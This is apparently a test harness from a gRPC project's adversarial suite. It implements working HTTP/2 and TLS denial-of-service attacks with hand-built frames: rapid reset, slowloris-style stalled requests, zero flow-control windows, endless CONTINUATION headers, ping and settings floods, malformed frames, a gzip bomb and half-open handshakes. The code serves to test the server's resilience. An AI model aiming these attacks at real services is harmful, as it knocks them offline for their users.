"""What a hostile peer does to a gRPC listener, over real sockets, from a process of its own.

`python -m tests.adversarial.attacks NAME ADDRESS CERTIFICATES CALLER METHOD SECONDS` attacks for so
long and prints what it counted. Frames are written by hand, because a library would not send them.
Deliberately absent: a check of anything; whoever starts it looks at the victim.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import struct
import sys
import time
import zlib
from collections import Counter
from contextlib import ExitStack, suppress
from functools import cache
from itertools import count
from pathlib import Path
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Mapping

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM: Final = 1
ACKNOWLEDGED: Final = 1
INITIAL_WINDOW_SIZE: Final = 4
END_HEADERS: Final = 4
CONNECTIONS: Final = 8
SILENT_STREAMS: Final = 40
IDLE_CONNECTIONS: Final = 100
PAUSE_S: Final = 0.005

Field = tuple[bytes, bytes]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one HTTP/2 frame."""
    head = struct.pack(">I", len(payload))[1:] + bytes([kind, flags])
    return head + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Return a header field as an HPACK literal without indexing."""
    return b"\0" + _integer(len(name)) + name + _integer(len(value)) + value


def _integer(value: int) -> bytes:
    """Return a length as HPACK writes one, with a prefix of seven bits."""
    if value < 127:
        return bytes([value])
    value -= 127
    written = b"\x7f"
    while value >= 128:
        written += bytes([value % 128 + 128])
        value //= 128
    return written + bytes([value])


class Peer:
    """One connection of the attacker."""

    def __init__(self, address: str, certificates: Path, caller: str, method: str) -> None:
        host, _, port = address.rpartition(":")
        context = ssl.create_default_context(
            ssl.Purpose.SERVER_AUTH, cafile=certificates / "ca.crt"
        )
        context.check_hostname = False
        context.load_cert_chain(certificates / f"{caller}.crt", certificates / f"{caller}.key")
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, int(port)), timeout=5)
        self.socket = context.wrap_socket(raw)
        self.streams = count(1, 2)
        self._method = method.encode()

    def greet(self, settings: bytes = b"") -> None:
        """Send the preface and settings."""
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))

    def headers(self, *more: Field, end: bool = False) -> tuple[int, bytes]:
        """Return a new stream and the frame that opens a call on it."""
        stream = next(self.streams)
        flags = END_HEADERS | (END_STREAM if end else 0)
        return stream, frame(HEADERS, flags, stream, self.block(*more))

    def block(self, *more: Field) -> bytes:
        """Return the header block of a call."""
        fields: tuple[Field, ...] = (
            (b":method", b"POST"),
            (b":scheme", b"https"),
            (b":path", self._method),
            (b":authority", b"victim"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
            *more,
        )
        return b"".join(literal(name, value) for name, value in fields)

    def drain(self) -> bytes:
        """Take whatever has arrived; raise OSError when the victim closed the connection."""
        self.socket.setblocking(False)
        taken = b""
        try:
            while True:
                chunk = self.socket.recv(65_536)
                if not chunk:
                    raise ConnectionResetError
                taken += chunk
        except (ssl.SSLWantReadError, BlockingIOError):
            return taken
        finally:
            self.socket.settimeout(5)

    def close(self) -> None:
        """Close without a word."""
        self.socket.close()


class Attack:
    """The attacker's situation: whom, as whom, until when, and what came of it."""

    def __init__(self, address: str, certificates: Path, caller: str, method: str) -> None:
        self.address = address
        self.counts: Counter[str] = Counter()
        self._peer = (address, certificates, caller, method)
        self._until_s = 0.0

    def run(self, name: str, seconds: float) -> None:
        """Attack until the time is up; a closed connection is counted and made anew."""
        self._until_s = time.monotonic() + seconds
        ATTACKS[name](self)

    @property
    def goes_on(self) -> bool:
        """Say whether there is time left."""
        return time.monotonic() < self._until_s

    def peers(self) -> Iterator[Peer]:
        """Yield connections, one after another, each closed before the next."""
        while self.goes_on:
            try:
                peer = Peer(*self._peer)
            except OSError:
                self.counts["connection refused"] += 1
                time.sleep(PAUSE_S)
                continue
            self.counts["connections"] += 1
            try:
                yield peer
            except OSError:
                self.counts["closed by the victim"] += 1
            finally:
                peer.close()

    def each(self, act: Callable[[Peer], None]) -> None:
        """Do this on one connection after another, counting those that the victim closes."""
        for peer in self.peers():
            try:
                peer.greet()
                act(peer)
            except OSError:
                self.counts["closed by the victim"] += 1

    def wait(self) -> None:
        """Hold still until the time is up."""
        while self.goes_on:
            time.sleep(PAUSE_S)


def rapid_reset(attack: Attack) -> None:
    """Open streams and take them back at once, as fast as the victim lets go on."""

    def act(peer: Peer) -> None:
        while attack.goes_on:
            burst = b""
            for _ in range(20):
                stream, opened = peer.headers()
                burst += opened + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            peer.socket.sendall(burst)
            attack.counts["resets"] += 20
            peer.drain()
            time.sleep(PAUSE_S)

    attack.each(act)


def silent_calls(attack: Attack) -> None:
    """Open calls without a deadline and never send their request."""
    with ExitStack() as stack:
        for _ in range(CONNECTIONS):
            peer = Peer(*attack._peer)
            stack.callback(peer.close)
            peer.greet()
            for _ in range(SILENT_STREAMS // CONNECTIONS):
                peer.socket.sendall(peer.headers()[1])
                attack.counts["calls"] += 1
        attack.wait()


def endless_request(attack: Attack) -> None:
    """Send one request in pieces of a byte, without an end."""
    with ExitStack() as stack:
        pairs = []
        for _ in range(CONNECTIONS):
            peer = Peer(*attack._peer)
            stack.callback(peer.close)
            peer.greet()
            stream, opened = peer.headers()
            peer.socket.sendall(opened + frame(DATA, 0, stream, b"\0" + struct.pack(">I", 2**20)))
            pairs.append((peer, stream))
        while attack.goes_on:
            for peer, stream in pairs:
                with suppress(OSError):
                    peer.socket.sendall(frame(DATA, 0, stream, b"x"))
                    attack.counts["bytes"] += 1
            time.sleep(PAUSE_S)


def slow_reader(attack: Attack) -> None:
    """Ask for large answers and leave no room to send them."""
    request = _message(bytes.fromhex("08c801"))  # page_size = 200
    no_window = struct.pack(">HI", 4, 0)
    with ExitStack() as stack:
        peers = []
        for _ in range(CONNECTIONS):
            peer = Peer(*attack._peer)
            stack.callback(peer.close)
            peer.greet(no_window)
            peers.append(peer)
        while attack.goes_on:
            for peer in peers:
                stream, opened = peer.headers()
                with suppress(OSError):
                    peer.socket.sendall(opened + frame(DATA, END_STREAM, stream, request))
                    attack.counts["calls"] += 1
            time.sleep(PAUSE_S * 4)


def giant_metadata(attack: Attack) -> None:
    """Send half a megabyte of headers with each call."""
    value = b"x" * 8_000

    def act(peer: Peer) -> None:
        while attack.goes_on:
            stream = next(peer.streams)
            blocks = [peer.block()] + [
                b"".join(literal(b"pad-%d" % number, value) for number in range(start, start + 2))
                for start in range(0, 64, 2)
            ]
            kinds = [HEADERS] + [CONTINUATION] * (len(blocks) - 1)
            for kind, block in zip(kinds, blocks, strict=True):
                flags = END_HEADERS if block is blocks[-1] else 0
                peer.socket.sendall(frame(kind, flags, stream, block))
            attack.counts["calls"] += 1
            peer.drain()
            time.sleep(PAUSE_S)

    attack.each(act)


def endless_headers(attack: Attack) -> None:
    """Continue one header block without an end."""

    def act(peer: Peer) -> None:
        stream = next(peer.streams)
        peer.socket.sendall(frame(HEADERS, 0, stream, peer.block()))
        for number in count():
            if not attack.goes_on:
                return
            field = literal(b"pad-%d" % number, b"x" * 4_000)
            peer.socket.sendall(frame(CONTINUATION, 0, stream, field))
            attack.counts["frames"] += 1
            peer.drain()

    attack.each(act)


def control_frames(attack: Attack) -> None:
    """Flood with pings, settings and priorities, and take in no answer."""

    def act(peer: Peer) -> None:
        burst = (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 20
        while attack.goes_on:
            peer.socket.sendall(burst)
            attack.counts["frames"] += 40
            time.sleep(PAUSE_S)

    attack.each(act)


def malformed_frames(attack: Attack) -> None:
    """Send what no HTTP/2 peer may, one thing for each connection."""
    noise = os.urandom(4_096)
    wrongs: list[bytes] = [
        noise,
        frame(DATA, 0, 0, b"on no stream"),
        frame(HEADERS, END_HEADERS, 2, b"\x82"),
        frame(HEADERS, END_HEADERS, 1, b"\xff" * 40),
        frame(HEADERS, END_HEADERS, 1, noise[:200]),
        frame(WINDOW, 0, 0, bytes(4)),
        frame(WINDOW, 0, 0, struct.pack(">I", 2**31 - 1)) * 3,
        frame(PUSH, END_HEADERS, 1, bytes(4)),
        frame(SETTINGS, 0, 0, b"\0\4\xff\xff\xff\xff"),
        frame(SETTINGS, 0, 0, b"odd"),
        frame(RST_STREAM, 0, 99, bytes(4)),
        b"\xff\xff\xff" + bytes([DATA, 0]) + struct.pack(">I", 1) + noise,
        frame(GOAWAY, 0, 0, bytes(8)),
        frame(PRIORITY, 0, 1, b"short"),
    ]
    turn = iter(range(10**9))

    def act(peer: Peer) -> None:
        peer.socket.sendall(wrongs[next(turn) % len(wrongs)])
        attack.counts["wrongs"] += 1
        with suppress(ssl.SSLError):
            time.sleep(PAUSE_S)
            if peer.drain() == b"":
                time.sleep(PAUSE_S)

    attack.each(act)


def malformed_messages(attack: Attack) -> None:
    """Open calls whose message is not what its prefix, or its method, says."""
    bodies = [
        b"\0" + struct.pack(">I", 2**32 - 1),
        b"\1" + struct.pack(">I", 4) + b"junk",
        b"\7" + struct.pack(">I", 0),
        b"\0\0",
        _message(b"\xff" * 64),
        _message(b"\x0a\xff\xff\xff\xff\x0f"),
        _message(b"{}") * 3,
        b"",
    ]

    def act(peer: Peer) -> None:
        while attack.goes_on:
            for body in bodies:
                stream, opened = peer.headers()
                peer.socket.sendall(opened + frame(DATA, END_STREAM, stream, body))
                attack.counts["calls"] += 1
            peer.drain()
            time.sleep(PAUSE_S * 4)

    attack.each(act)


@cache
def _bomb() -> bytes:
    packer = zlib.compressobj(1, zlib.DEFLATED, 31)
    zeros = bytes(2**20)
    packed = b"".join(packer.compress(zeros) for _ in range(128)) + packer.flush()
    return b"\1" + struct.pack(">I", len(packed)) + packed


def gzip_bomb(attack: Attack) -> None:
    """Send a few hundred kilobytes that unfold to 128 MiB, once on each connection."""

    def act(peer: Peer) -> None:
        stream, opened = peer.headers((b"grpc-encoding", b"gzip"))
        peer.socket.sendall(opened)
        if _send_within_windows(peer, stream, _bomb()):
            attack.counts["bombs"] += 1
            # Closing at once would take it back before it is unfolded.
            time.sleep(PAUSE_S * 100)

    attack.each(act)


def _send_within_windows(peer: Peer, stream: int, message: bytes) -> bool:
    """Send a message as flow control allows; False when the victim wants no more of it."""
    # Of the stream, and of the connection. The victim may move the first with its settings.
    windows = {stream: 65_535, 0: 65_535}
    initial = 65_535
    buffered = b""
    while message:
        size = min(16_000, len(message), *windows.values())
        if size > 0:
            flags = END_STREAM if size == len(message) else 0
            peer.socket.sendall(frame(DATA, flags, stream, message[:size]))
            message = message[size:]
            windows = {on: window - size for on, window in windows.items()}
            continue
        buffered += peer.socket.recv(65_536)
        while len(buffered) >= 9 and len(buffered) >= 9 + int.from_bytes(buffered[:3], "big"):
            end = 9 + int.from_bytes(buffered[:3], "big")
            kind, on, payload = buffered[3], int.from_bytes(buffered[5:9], "big"), buffered[9:end]
            if kind == WINDOW and on in windows:
                windows[on] += int.from_bytes(payload, "big")
            if kind == SETTINGS and not buffered[4] & ACKNOWLEDGED:
                # Until it is told so, the victim holds the stream to the window of before.
                peer.socket.sendall(frame(SETTINGS, ACKNOWLEDGED, 0, b""))
                for start in range(0, len(payload), 6):
                    name, value = struct.unpack(">HI", payload[start : start + 6])
                    if name == INITIAL_WINDOW_SIZE:
                        windows[stream] += value - initial
                        initial = value
            if on == stream and kind in {RST_STREAM, HEADERS}:
                return False
            buffered = buffered[end:]
    return True


def idle_connections(attack: Attack) -> None:
    """Hold many connections that finish their handshake and say nothing."""
    with ExitStack() as stack:
        while attack.goes_on and attack.counts["connections"] < IDLE_CONNECTIONS:
            with suppress(OSError):
                peer = Peer(*attack._peer)
                stack.callback(peer.close)
                attack.counts["connections"] += 1
        attack.wait()


def half_handshakes(attack: Attack) -> None:
    """Hold many connections that never finish their handshake."""
    host, _, port = attack.address.rpartition(":")
    with ExitStack() as stack:
        for _ in range(IDLE_CONNECTIONS):
            raw = socket.create_connection((host, int(port)), timeout=5)
            stack.callback(raw.close)
            # The head of a record that announces 512 bytes, and 20 of them.
            raw.sendall(b"\x16\x03\x01\x02\x00" + bytes(20))
            attack.counts["connections"] += 1
        attack.wait()


def junk_instead_of_tls(attack: Attack) -> None:
    """Send noise, plain HTTP/2 and plain HTTP/1 to a port that speaks TLS."""
    host, _, port = attack.address.rpartition(":")
    texts = [os.urandom(2_000), PREFACE + frame(SETTINGS, 0, 0), b"GET / HTTP/1.1\r\n\r\n", b""]
    for number in count():
        if not attack.goes_on:
            return
        with suppress(OSError), socket.create_connection((host, int(port)), timeout=5) as raw:
            raw.sendall(texts[number % len(texts)])
            attack.counts["connections"] += 1
        time.sleep(PAUSE_S)


def _message(body: bytes) -> bytes:
    return b"\0" + struct.pack(">I", len(body)) + body


ATTACKS: Mapping[str, Callable[[Attack], None]] = {
    one.__name__: one
    for one in (
        rapid_reset,
        silent_calls,
        endless_request,
        slow_reader,
        giant_metadata,
        endless_headers,
        control_frames,
        malformed_frames,
        malformed_messages,
        gzip_bomb,
        idle_connections,
        half_handshakes,
        junk_instead_of_tls,
    )
}


def main() -> None:
    """Attack as the arguments say."""
    name, address, certificates, caller, method, seconds = sys.argv[1:]
    attack = Attack(address, Path(certificates), caller, method)
    if name == gzip_bomb.__name__:
        _bomb()
    print("attacking", flush=True)  # noqa: T201 - a line that its parent waits for
    attack.run(name, float(seconds))
    print(json.dumps(attack.counts), flush=True)  # noqa: T201 - a line that its parent waits for


if __name__ == "__main__":
    main()
